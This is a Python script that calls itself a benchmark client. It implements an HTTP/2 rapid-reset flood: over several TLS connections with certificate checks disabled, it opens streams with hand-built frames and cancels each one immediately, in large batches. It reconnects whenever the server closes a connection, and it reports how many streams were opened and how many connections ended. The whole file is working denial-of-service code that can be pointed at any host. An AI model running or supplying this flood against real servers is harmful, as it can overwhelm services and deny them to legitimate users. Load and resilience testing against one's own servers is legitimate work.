#!/usr/bin/env python3
"""A client that opens HTTP/2 streams and resets each at once, in a loop,
on a few TLS connections, for a number of seconds: how the benchmark sees
whether such a client slows the others. Frames are built by hand, the
request with static-table HPACK only, so it needs nothing but Python.

Usage: h2_reset_flood.py HOST PORT PATH SECONDS [CONNECTIONS]
Prints the streams opened and reset, and the connections the server ended.
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_STREAM_AND_HEADERS = 0x5
CANCEL = 0x8
BATCH = 100  # streams sent per write


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(index, value):
    """A header field without indexing, its name from the static table."""
    data = value.encode()
    assert len(data) < 127
    return bytes([index, len(data)]) + data


def request_block(host, path):
    # :method GET (2), :scheme https (7), :path (4), :authority (1).
    return b"\x82\x87" + literal(4, path) + literal(1, host)


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection((host, port)), server_hostname=host)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sock.setblocking(False)
    return sock


def drain(sock):
    """Reads whatever the server said, of no interest; raises once it closed."""
    try:
        while sock.recv(65536):
            pass
        raise ConnectionResetError
    except (ssl.SSLWantReadError, BlockingIOError):
        pass


def main():
    host, port, path, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    count = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    block = request_block(host, path)
    clients = [[connect(host, port), 1] for _ in range(count)]
    opened = ended = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for client in clients:
            sock, stream = client
            burst = b""
            for _ in range(BATCH):
                burst += frame(HEADERS, END_STREAM_AND_HEADERS, stream, block)
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            try:
                drain(sock)
                sock.setblocking(True)
                sock.sendall(burst)
                sock.setblocking(False)
                opened += BATCH
            except OSError:
                ended += 1
                sock.close()
                client[0], stream = connect(host, port), 1
            client[1] = stream if stream < 2**31 - 2 * BATCH else 1
    print(f"streams opened and reset: {opened}, connections ended by the server: {ended}")


if __name__ == "__main__":
    main()
